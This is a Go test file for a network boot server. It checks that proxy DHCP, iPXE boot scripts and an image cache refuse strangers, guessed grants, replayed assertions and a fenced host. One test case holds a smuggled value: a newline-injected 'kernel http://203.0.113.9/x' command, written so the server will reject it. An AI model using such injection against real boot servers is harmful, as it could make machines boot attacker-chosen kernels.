package siteboot_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/insomniacslk/dhcp/dhcpv4"
	"github.com/insomniacslk/dhcp/iana"
	"go.uber.org/goleak"

	"github.com/bettercompute/siteboot/assertion"
	"github.com/bettercompute/siteboot/bootbind"
	"github.com/bettercompute/siteboot/clock/clocktest"
	"github.com/bettercompute/siteboot/hwid"
	"github.com/bettercompute/siteboot/imagecache"
	"github.com/bettercompute/siteboot/internal/simmachine"
	"github.com/bettercompute/siteboot/ipxe"
	"github.com/bettercompute/siteboot/proxydhcp"
	"github.com/bettercompute/siteboot/tftpd"
	"github.com/bettercompute/siteboot/tftpd/tftpdtest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

const composeSite = "site-compose"

// Loopback addresses of the test: the host, two machines with entries, one without, and a
// bystander on the same segment.
var (
	hostIP      = netip.MustParseAddr("127.0.36.2")
	machineIP   = netip.MustParseAddr("127.0.36.11")
	simIP       = netip.MustParseAddr("127.0.36.12")
	strangerIP  = netip.MustParseAddr("127.0.36.13")
	bystanderIP = netip.MustParseAddr("127.0.36.66")
)

// controlPlane is what the test stands in for: the site's boot lease, the discovery tokens
// and the verifier of the assertions ramdisks present when they join.
type controlPlane struct {
	mu     sync.Mutex
	holder string
	epoch  uint64
	tokens map[string]string // by workflow
	v      *assertion.Verifier
}

func (cp *controlPlane) setLease(holder string, epoch uint64) {
	cp.mu.Lock()
	defer cp.mu.Unlock()
	cp.holder, cp.epoch = holder, epoch
}

func (cp *controlPlane) checkEpoch(_ context.Context, _, agent string, epoch uint64) error {
	cp.mu.Lock()
	defer cp.mu.Unlock()
	if epoch != cp.epoch {
		return fmt.Errorf("%w: %d, the lease is at %d", assertion.ErrStaleEpoch, epoch, cp.epoch)
	}
	if agent != cp.holder {
		return assertion.ErrNotLeaseHolder
	}
	return nil
}

func randomBytes(t *testing.T, n int) []byte {
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return b
}

func digestOf(b []byte) imagecache.Digest { return sha256.Sum256(b) }

func macOf(i byte) hwid.MAC { return hwid.MAC{0x52, 0x54, 0x00, 0x36, 0x00, i} }
func uuidOf(i byte) hwid.UUID {
	return hwid.UUID{0x4c, 0x4c, 0x45, 0x44, 0x00, 0x36, 0x10, 0x35, 15: i}
}

// clientFrom is an HTTP client whose connections come from ip, as a machine's do.
func clientFrom(ip netip.Addr) *http.Client {
	d := &net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(ip, 0)), Timeout: 5 * time.Second}
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, DisableKeepAlives: true}}
}

// get GETs u with c and returns the status and the body.
func get(t *testing.T, c *http.Client, u string) (int, string) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatalf("GET %s: %v", u, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s: %v", u, err)
	}
	return resp.StatusCode, string(b)
}

// askDHCP sends iPXE's DHCP message for mac from the address from (with ciaddr) to to (a
// REQUEST to port 4011, a DISCOVER to port 67), and returns the boot file of the answer that
// came within wait, or "" for silence. Port 67 answers the host's client port, which the
// test does not hold: a DISCOVER is sent for its refusal only.
func askDHCP(t *testing.T, typ dhcpv4.MessageType, to netip.AddrPort, from, ciaddr netip.Addr, mac hwid.MAC, uuid hwid.UUID, wait time.Duration) string {
	t.Helper()
	conn, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(from, 0)))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	req, err := dhcpv4.New(dhcpv4.WithHwAddr(net.HardwareAddr(mac[:])), dhcpv4.WithMessageType(typ),
		dhcpv4.WithClientIP(net.IP(ciaddr.AsSlice())),
		dhcpv4.WithOption(dhcpv4.OptClassIdentifier("PXEClient:Arch:00007:UNDI:003010")),
		dhcpv4.WithOption(dhcpv4.OptClientArch(iana.EFI_X86_64)),
		dhcpv4.WithGeneric(dhcpv4.OptionClientMachineIdentifier, append([]byte{0}, uuid[:]...)),
		dhcpv4.WithGeneric(dhcpv4.OptionUserClassInformation, []byte("iPXE")))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.WriteToUDPAddrPort(req.ToBytes(), to); err != nil {
		t.Fatal(err)
	}
	conn.SetReadDeadline(time.Now().Add(wait))
	buf := make([]byte, 1500)
	for {
		n, _, err := conn.ReadFromUDPAddrPort(buf)
		if err != nil {
			return ""
		}
		if rep, err := dhcpv4.FromBytes(buf[:n]); err == nil && rep.TransactionID == req.TransactionID {
			if f := rep.BootFileNameOption(); f != "" {
				return f
			}
			return rep.BootFileName
		}
	}
}

// counters are the host's and the verifier's counters of answers and refusals, by name.
func counters(h *host, v *assertion.Verifier) map[string]uint64 {
	m := map[string]uint64{}
	s := h.Stats()
	for _, r := range bootbind.Refusals() {
		m["bootbind/"+r.String()] = s.Bind.Of(r)
	}
	b := s.Boot
	for k, n := range map[string]uint64{"scripts": b.Scripts, "chains": b.Chains, "unknown": b.Unknown, "unbound": b.Unbound,
		"mismatched": b.Mismatched, "uuid-refused": b.UUIDRefused, "ip-refused": b.IPRefused, "fenced": b.Fenced,
		"bad-request": b.BadRequests, "errors": b.Errors, "token-waits": b.TokenWaits} {
		m["ipxe/"+k] = n
	}
	c := s.Cache
	for k, n := range map[imagecache.Refusal]uint64{imagecache.RefusedMalformed: c.RefusedPath, imagecache.RefusedUnknownGrant: c.RefusedGrant,
		imagecache.RefusedExpired: c.RefusedExpired, imagecache.RefusedOtherDigest: c.RefusedDigest,
		imagecache.RefusedNotCached: c.RefusedMissing, imagecache.RefusedFenced: c.RefusedFenced, "served": c.Served} {
		m["cache/"+string(k)] = uint64(n)
	}
	f := s.TFTP
	m["tftp/completed"], m["tftp/not-found"], m["tftp/denied"], m["tftp/fenced"] = f.Completed, f.NotFound, f.Denied, f.Fenced
	d := s.DHCP
	for port, ps := range map[string]proxydhcp.PortStats{"67": d.DHCP, "4011": d.Boot} {
		m["dhcp-"+port+"/answered"] = ps.Answered
		for _, r := range proxydhcp.Reasons() {
			m["dhcp-"+port+"/"+r.String()] = ps.Silent.Of(r)
		}
	}
	vs := v.Stats()
	m["assertion/admitted"] = vs.Admitted
	for _, r := range assertion.Reasons() {
		if n := vs.Refused.Of(r); n > 0 {
			m["assertion/"+r.String()] = n
		}
	}
	return m
}

// waitCompleted waits until h's TFTP server has counted n completed transfers. The final
// acknowledgement is read within the server's Timeout (DefaultTimeout), so a few of them
// bound the wait.
func waitCompleted(t *testing.T, h *host, n uint64) {
	t.Helper()
	deadline := time.Now().Add(5 * tftpd.DefaultTimeout)
	for h.Stats().TFTP.Completed < n {
		if time.Now().After(deadline) {
			t.Errorf("tftp: %d transfers completed, want %d", h.Stats().TFTP.Completed, n)
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// moved is what changed between two counter snapshots.
func moved(before, after map[string]uint64) map[string]uint64 {
	d := map[string]uint64{}
	for k, n := range after {
		if n != before[k] {
			d[k] = n - before[k]
		}
	}
	return d
}

// scriptOf reads the kernel and initrd URLs and the kernel parameters of a boot script.
func scriptOf(t *testing.T, body string) (kernel, initrd string, params map[string]string) {
	t.Helper()
	params = map[string]string{}
	for line := range strings.Lines(body) {
		f := strings.Fields(line)
		switch {
		case len(f) > 1 && f[0] == "kernel" && kernel == "":
			kernel = f[1]
			for _, p := range f[2:] {
				if k, v, ok := strings.Cut(p, "="); ok {
					params[k] = v
				}
			}
		case len(f) > 3 && f[0] == "initrd" && initrd == "":
			initrd = f[3]
		}
	}
	if kernel == "" || initrd == "" {
		t.Fatalf("no kernel or initrd in the script:\n%s", body)
	}
	return kernel, initrd, params
}

// TestComposeHost drives the host of compose_host_test.go, a boot server wired from library
// packages alone, on loopback: a machine boots through it (proxy DHCP on 4011, its chain URL
// with a nonce, its script from the address the answer went to, the ramdisk under its grant
// over HTTP and TFTP, the assertion verified once), a simulated machine boots from its DHCP
// DISCOVER to its kernel, and each refusal bootlab prints is asserted with its status and
// with exactly the counters it moves.
func TestComposeHost(t *testing.T) {
	ctx := t.Context()
	kernel, initrd, build := randomBytes(t, 1<<20), randomBytes(t, 3<<20/2), randomBytes(t, 300<<10)
	origin := http.NewServeMux()
	origin.HandleFunc("GET /vmlinuz", func(w http.ResponseWriter, r *http.Request) { w.Write(kernel) })
	origin.HandleFunc("GET /initrd.img", func(w http.ResponseWriter, r *http.Request) { w.Write(initrd) })
	src := httptest.NewServer(origin)
	defer src.Close()

	pub, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	// The agent's clock: an assertion is stamped to the second, so two scripts in one second
	// carry the same one; the test steps it to have a second assertion signed.
	clock := clocktest.New(time.Now())
	cp := &controlPlane{tokens: map[string]string{}}
	cp.v = &assertion.Verifier{
		Keys:   assertion.StaticKeys{"agent-a": {PublicKey: pub, Site: composeSite, Role: assertion.RoleSite}},
		Leases: assertion.LeaseCheckerFunc(cp.checkEpoch),
		Replay: &assertion.MemoryReplayCache{},
	}
	entries := map[hwid.MAC]ipxe.Entry{}
	for i := byte(1); i <= 2; i++ { // machineIP's and simIP's
		wf := fmt.Sprintf("wf-%d", i)
		cp.tokens[wf] = hex.EncodeToString(randomBytes(t, 16))
		entries[macOf(i)] = ipxe.Entry{MAC: macOf(i), UUID: uuidOf(i), Workflow: wf, NotAfter: time.Now().Add(time.Hour)}
	}
	// The host's client port: one a machine binds on its own address (simmachine).
	probe, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(simIP, 0)))
	if err != nil {
		t.Fatal(err)
	}
	clientPort := probe.LocalAddr().(*net.UDPAddr).Port
	probe.Close()

	// The embedder binds the host's sockets: unprivileged ports of the host's address.
	var udp [3]net.PacketConn // 67, 4011, TFTP
	for i := range udp {
		if udp[i], err = net.ListenPacket("udp4", netip.AddrPortFrom(hostIP, 0).String()); err != nil {
			t.Fatal(err)
		}
		defer udp[i].Close()
	}
	ln, err := net.Listen("tcp4", netip.AddrPortFrom(hostIP, 0).String())
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	addrOf := func(pc net.PacketConn) netip.AddrPort { return pc.LocalAddr().(*net.UDPAddr).AddrPort() }
	dhcp, pxe, tftpAddr, httpBase := addrOf(udp[0]), addrOf(udp[1]), udp[2].LocalAddr().String(), "http://"+ln.Addr().String()

	h, err := newHost(ctx, hostConfig{
		DHCP: udp[0], PXE: udp[1], TFTP: udp[2], HTTP: ln, ClientPort: clientPort,
		Cache:   imagecache.Config{Dir: t.TempDir(), AllowedSourceNetworks: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}},
		Kernel:  imagecache.Image{URL: src.URL + "/vmlinuz", SHA256: digestOf(kernel), Format: "kernel"},
		Initrd:  imagecache.Image{URL: src.URL + "/initrd.img", SHA256: digestOf(initrd), Format: "initrd"},
		Builds:  fstest.MapFS{"ipxe.efi": {Data: build}},
		Entries: entries,
		Tokens: ipxe.TokensFunc(func(_ context.Context, e ipxe.Entry) (string, error) {
			return cp.tokens[e.Workflow], nil
		}),
		Issuer: &assertion.Issuer{Site: composeSite, Agent: "agent-a", Signer: key, Clock: clock},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := h.Close(); err != nil {
			t.Errorf("close: %v", err)
		}
	}()
	// The control plane makes agent-a the boot server at epoch 1; its embedder sets the fence.
	cp.setLease("agent-a", 1)
	h.epoch.Store(1)

	machine, bystander := clientFrom(machineIP), clientFrom(bystanderIP)
	joinOf := func(i byte) assertion.Join {
		return assertion.Join{Site: composeSite, MACs: []hwid.MAC{macOf(i)}, UUID: uuidOf(i)}
	}
	scriptURL := func(i byte, ip netip.Addr, nonce string) string {
		q := ipxe.Query{MAC: macOf(i), UUID: uuidOf(i), IP: ip, Nonce: nonce}
		return httpBase + ipxe.PathBoot + "?" + q.Encode()
	}
	nonceOf := func(t *testing.T, file string) string {
		t.Helper()
		u, err := url.Parse(file)
		if err != nil || u.Path != ipxe.PathChain || "http://"+u.Host != httpBase {
			t.Fatalf("proxy DHCP answered %q, want the chain URL of %s", file, httpBase)
		}
		n, err := bootbind.ParseToken(u.Query().Get(proxydhcp.BindParam))
		if err != nil {
			t.Fatalf("chain URL %q: %v", file, err)
		}
		return n
	}

	var used, spare, grant string // an assertion the ramdisk used, one signed and kept, the machine's grant
	t.Run("boot", func(t *testing.T) {
		before := counters(h, cp.v)
		file := askDHCP(t, dhcpv4.MessageTypeRequest, pxe, machineIP, machineIP, macOf(1), uuidOf(1), 2*time.Second)
		nonce := nonceOf(t, file)
		st, chain := get(t, machine, file)
		if st != http.StatusOK || !strings.Contains(chain, ipxe.PathBoot+"?") || !strings.Contains(chain, "&n="+nonce) {
			t.Fatalf("chain script: %d\n%s", st, chain)
		}
		st, body := get(t, machine, scriptURL(1, machineIP, nonce))
		if st != http.StatusOK {
			t.Fatalf("script: %d\n%s", st, body)
		}
		k, i, params := scriptOf(t, body)
		if got, want := params[ipxe.ParamToken], cp.tokens["wf-1"]; got != want {
			t.Errorf("bc.token = %q, want the control plane's %q", got, want)
		}
		cache := params[ipxe.ParamCache]
		if !strings.HasPrefix(cache, httpBase+"/cache/t/") || k != cache+digestOf(kernel).String() || i != cache+digestOf(initrd).String() {
			t.Fatalf("kernel %s and initrd %s not under the grant %s", k, i, cache)
		}
		// The grant serves the cached kernel over HTTP, and the initrd over TFTP (GrantFS).
		if st, got := get(t, machine, k); st != http.StatusOK || digestOf([]byte(got)) != digestOf(kernel) {
			t.Errorf("kernel over HTTP: %d, %d bytes not the kernel's", st, len(got))
		}
		grant = strings.TrimPrefix(cache, httpBase+"/cache/")
		got, size, err := tftpdtest.Fetch(tftpAddr, grant+digestOf(initrd).String(), 1468)
		if err != nil || size != int64(len(initrd)) || !bytes.Equal(got, initrd) {
			t.Errorf("initrd over TFTP: %v, size %d, %d bytes not the initrd's", err, size, len(got))
		}
		// The client is done at the last block; the server counts the transfer when it reads
		// the final acknowledgement, a moment later.
		waitCompleted(t, h, before["tftp/completed"]+1)
		a, err := cp.v.Verify(ctx, params[ipxe.ParamAssertion], joinOf(1))
		if err != nil {
			t.Fatalf("assertion: %v", err)
		}
		if a.Agent != "agent-a" || a.Epoch != 1 || a.MAC != macOf(1) || a.IP != machineIP || a.Workflow != "wf-1" {
			t.Errorf("assertion states %+v", a)
		}
		used = params[ipxe.ParamAssertion]
		// Asked again a second later, the script carries a fresh assertion; it is kept.
		clock.Advance(time.Second)
		if st, body = get(t, machine, scriptURL(1, machineIP, nonce)); st == http.StatusOK {
			_, _, p := scriptOf(t, body)
			spare = p[ipxe.ParamAssertion]
		}
		if spare == "" || spare == used {
			t.Fatalf("second script: %d, assertion %q", st, spare)
		}
		want := map[string]uint64{"dhcp-4011/answered": 1, "ipxe/chains": 1, "ipxe/scripts": 2, "cache/served": 2, "tftp/completed": 1, "assertion/admitted": 1}
		if diff := cmp.Diff(want, moved(before, counters(h, cp.v))); diff != "" {
			t.Errorf("counters (-want +got):\n%s", diff)
		}
	})
	if used == "" || spare == "" {
		t.FailNow()
	}

	t.Run("simulated machine", func(t *testing.T) {
		m := &simmachine.Machine{
			Name: "m2", MAC: macOf(2), UUID: uuidOf(2), IP: simIP, ClientPort: clientPort,
			DHCPServers: []netip.AddrPort{dhcp},
			TFTPAddr:    func(netip.Addr) netip.AddrPort { return netip.MustParseAddrPort(tftpAddr) },
			HTTP:        clientFrom(simIP), DHCPAttempts: 2,
		}
		r, err := m.Boot(ctx)
		if err != nil {
			t.Fatalf("boot: %v", err)
		}
		if r.Build.SHA256 != digestOf(build).String() || r.Kernel.SHA256 != digestOf(kernel).String() ||
			len(r.Initrds) != 1 || r.Initrds[0].SHA256 != digestOf(initrd).String() {
			t.Errorf("the machine loaded build %s, kernel %s, initrds %v", r.Build.SHA256, r.Kernel.SHA256, r.Initrds)
		}
		if r.Param(ipxe.ParamToken) != cp.tokens["wf-2"] {
			t.Errorf("bc.token = %q, want wf-2's", r.Param(ipxe.ParamToken))
		}
		if _, err := cp.v.Verify(ctx, r.Param(ipxe.ParamAssertion), joinOf(2)); err != nil {
			t.Errorf("assertion: %v", err)
		}
	})

	// The refusals, in order: the failover comes before the refusals of a fenced host.
	var nonce string
	httpStatus := func(t *testing.T, c *http.Client, u string) string {
		st, body := get(t, c, u)
		if strings.Contains(body, ipxe.ParamToken) || strings.Contains(body, "/cache/t/") {
			return fmt.Sprintf("%d with a secret", st)
		}
		// A give-up is the exit script, answered 200 so that iPXE runs it and the firmware
		// moves on to its next boot entry (package ipxe's doc).
		if st == http.StatusOK && strings.HasSuffix(strings.TrimSpace(body), "exit 1") && !strings.Contains(body, "kernel") {
			return "exit"
		}
		return fmt.Sprint(st)
	}
	dhcpAnswer := func(file string) string {
		if file == "" {
			return "silence"
		}
		return "answer"
	}
	verify := func(text string, j assertion.Join) string {
		_, err := cp.v.Verify(ctx, text, j)
		var r *assertion.RefusedError
		if errors.As(err, &r) {
			return r.Reason.String()
		}
		return fmt.Sprint(err)
	}
	tftpError := func(t *testing.T, name string) string {
		_, _, err := tftpdtest.Fetch(tftpAddr, name, 1468)
		for _, e := range []string{"file not found", "access violation"} {
			if err != nil && strings.Contains(err.Error(), e) {
				return e
			}
		}
		return fmt.Sprint(err)
	}
	known, stranger := macOf(1), macOf(3)
	guess := hex.EncodeToString(randomBytes(t, 16))
	for _, c := range []struct {
		name string
		do   func(t *testing.T) string
		want string
		n    map[string]uint64
	}{
		{"no-nonce: a script request naming only a known MAC", func(t *testing.T) string {
			return httpStatus(t, machine, httpBase+ipxe.PathBoot+"?mac="+known.String())
		}, "exit", map[string]uint64{"bootbind/no-nonce": 1, "ipxe/unbound": 1}},
		{"nonce-other-address: a bystander presents the machine's nonce first", func(t *testing.T) string {
			nonce = nonceOf(t, askDHCP(t, dhcpv4.MessageTypeRequest, pxe, machineIP, machineIP, known, uuidOf(1), 2*time.Second))
			return httpStatus(t, bystander, scriptURL(1, netip.Addr{}, nonce))
		}, "exit", map[string]uint64{"dhcp-4011/answered": 1, "bootbind/nonce-other-address": 1, "ipxe/unbound": 1}},
		{"the machine itself still boots with that nonce", func(t *testing.T) string {
			st, _ := get(t, machine, scriptURL(1, machineIP, nonce))
			return fmt.Sprint(st)
		}, "200", map[string]uint64{"ipxe/scripts": 1}},
		{"unknown machine: proxy DHCP", func(t *testing.T) string {
			return dhcpAnswer(askDHCP(t, dhcpv4.MessageTypeRequest, pxe, strangerIP, strangerIP, stranger, uuidOf(3), 500*time.Millisecond))
		}, "silence", map[string]uint64{"dhcp-4011/unknown": 1}},
		{"unknown machine: script", func(t *testing.T) string {
			return httpStatus(t, clientFrom(strangerIP), scriptURL(3, strangerIP, ""))
		}, "exit", map[string]uint64{"ipxe/unknown": 1}},
		{"off-segment: a requester whose answer would go to another network", func(t *testing.T) string {
			return dhcpAnswer(askDHCP(t, dhcpv4.MessageTypeDiscover, dhcp, machineIP, netip.MustParseAddr("198.51.100.77"), known, uuidOf(1), 500*time.Millisecond))
		}, "silence", map[string]uint64{"dhcp-67/off-segment": 1}},
		{"injected query: a script request that tries to add a command", func(t *testing.T) string {
			return httpStatus(t, machine, httpBase+ipxe.PathBoot+"?mac="+known.String()+"%0Akernel%20http://203.0.113.9/x")
		}, "exit", map[string]uint64{"ipxe/bad-request": 1}},
		{"guessed grant over HTTP", func(t *testing.T) string {
			return httpStatus(t, machine, httpBase+"/cache/t/"+guess+"/"+digestOf(kernel).String())
		}, "404", map[string]uint64{"cache/unknown-grant": 1}},
		{"guessed grant over TFTP", func(t *testing.T) string {
			return tftpError(t, "t/"+guess+"/"+digestOf(kernel).String())
		}, "file not found", map[string]uint64{"cache/unknown-grant": 1, "tftp/not-found": 1}},
		{"plain /cache/SHA256 without a grant", func(t *testing.T) string {
			return httpStatus(t, machine, httpBase+"/cache/"+digestOf(kernel).String())
		}, "404", map[string]uint64{"cache/malformed": 1}},
		{"replayed assertion", func(t *testing.T) string { return verify(used, joinOf(1)) },
			"replay", map[string]uint64{"assertion/replay": 1}},
		{"stale epoch: agent-a's unused assertion after the lease moved to agent-b", func(t *testing.T) string {
			cp.setLease("agent-b", 2)
			h.epoch.Store(0) // the embedder hears it no longer holds the lease
			return verify(spare, joinOf(1))
		}, "stale-epoch", map[string]uint64{"assertion/stale-epoch": 1}},
		{"fenced: proxy DHCP", func(t *testing.T) string {
			return dhcpAnswer(askDHCP(t, dhcpv4.MessageTypeRequest, pxe, machineIP, machineIP, known, uuidOf(1), 500*time.Millisecond))
		}, "silence", map[string]uint64{"dhcp-4011/fenced": 1}},
		{"fenced: script, with a nonce the machine holds", func(t *testing.T) string {
			return httpStatus(t, machine, scriptURL(1, machineIP, nonce))
		}, "503", map[string]uint64{"ipxe/fenced": 1}},
		{"fenced: the machine's own grant", func(t *testing.T) string {
			return httpStatus(t, machine, httpBase+"/cache/"+grant+digestOf(kernel).String())
		}, "503", map[string]uint64{"cache/fenced": 1}},
		{"fenced: the machine's own grant over TFTP", func(t *testing.T) string {
			return tftpError(t, grant+digestOf(initrd).String())
		}, "access violation", map[string]uint64{"tftp/denied": 1, "tftp/fenced": 1}},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := counters(h, cp.v)
			if got := c.do(t); got != c.want {
				t.Errorf("got %s, want %s", got, c.want)
			}
			if diff := cmp.Diff(c.n, moved(before, counters(h, cp.v))); diff != "" {
				t.Errorf("counters (-want +got):\n%s", diff)
			}
		})
	}
}
